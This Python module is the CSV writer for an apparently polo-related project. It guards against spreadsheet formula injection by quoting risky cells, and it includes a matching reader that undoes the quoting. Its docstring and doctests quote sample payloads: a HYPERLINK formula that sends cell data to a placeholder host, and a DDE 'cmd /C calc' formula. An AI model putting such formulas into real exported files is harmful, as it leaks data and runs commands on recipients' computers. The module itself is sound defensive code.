"""The one CSV writer of the project: no cell it writes is a spreadsheet formula.

Every CSV chukker writes (score sheets, tournament exports, the season table, the
register, the broadcast feed, plays' tracking and reviews, the rules test's result)
goes through :func:`writer`. A text cell that begins with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return is written with a single quote in front (the OWASP rule
for CSV injection), so that a team named ``=HYPERLINK("http://x/"&A1)`` stays a name
in a spreadsheet. A real number is left alone, whatever its sign: ``-3``, ``+1.5``
and ``-2.5e3`` are numbers, not formulas (a spreadsheet reads them as numbers), so
an export of goal differences and coordinates stays a table of numbers. Only the
plain decimal form counts as a number (``-1+1``, ``-inf``, ``1_000`` or ``-0x1`` are
quoted). A text that already begins with quotes before such a character gets one more,
so that :func:`reader` (:func:`uncell`) gives back every text as it was.

>>> import io
>>> buf = io.StringIO()
>>> w = writer(buf, lineterminator="\\n")
>>> w.writerow(["=1+2", "-3", -3, "@SUM(A1)", "+1.5", "-1+1", "\\tx", "Polo"])
>>> buf.getvalue()
"'=1+2,-3,-3,'@SUM(A1),+1.5,'-1+1,'\\tx,Polo\\n"
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Iterator
from typing import Any, Protocol

#: what a formula may begin with (OWASP, "CSV Injection")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
#: a plain decimal number, signed or not: left as it is
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


class _Writes(Protocol):
    def write(self, s: str, /) -> Any: ...


def cell(value: Any) -> Any:
    """``value`` as a safe cell: text that a spreadsheet would run gets a leading quote.

    >>> cell('=cmd|\\' /C calc\\'!A0'), cell("-3"), cell(2.5), cell(None)
    ("'=cmd|' /C calc'!A0", '-3', 2.5, None)
    """
    return "'" + value if isinstance(value, str) and _needs(value) else value


def _needs(text: str) -> bool:
    """Whether ``text`` gets a quote: it begins with a trigger and is no number, or it is
    quotes in front of such a text (so that :func:`uncell` gives back any text)."""
    rest = text.lstrip("'")
    return rest.startswith(TRIGGERS) and not NUMBER.fullmatch(rest)


def row(values: Iterable[Any]) -> list[Any]:
    """Every cell of ``values`` made safe."""
    return [cell(v) for v in values]


class Writer:
    """:func:`csv.writer` whose every cell goes through :func:`cell`."""

    def __init__(self, out: _Writes, **fmt: Any) -> None:
        self._w = csv.writer(out, **fmt)

    def writerow(self, values: Iterable[Any]) -> None:
        self._w.writerow(row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for r in rows:
            self.writerow(r)


def writer(out: _Writes, **fmt: Any) -> Writer:
    """The project's CSV writer on ``out`` (``fmt``: :func:`csv.writer`'s options)."""
    return Writer(out, **fmt)


def uncell(value: str) -> str:
    """A cell as :func:`cell` read it: the quote it put in front taken away (round trips).

    >>> uncell("'=1+2"), uncell("'quoted'"), uncell("-3"), uncell(cell("'=x"))
    ('=1+2', "'quoted'", '-3', "'=x")
    """
    return value[1:] if value.startswith("'") and _needs(value[1:]) else value


def reader(lines: Iterable[str], **fmt: Any) -> Iterator[list[str]]:
    """:func:`csv.reader` of what :func:`writer` wrote, each cell through :func:`uncell`."""
    for r in csv.reader(lines, **fmt):
        yield [uncell(c) for c in r]
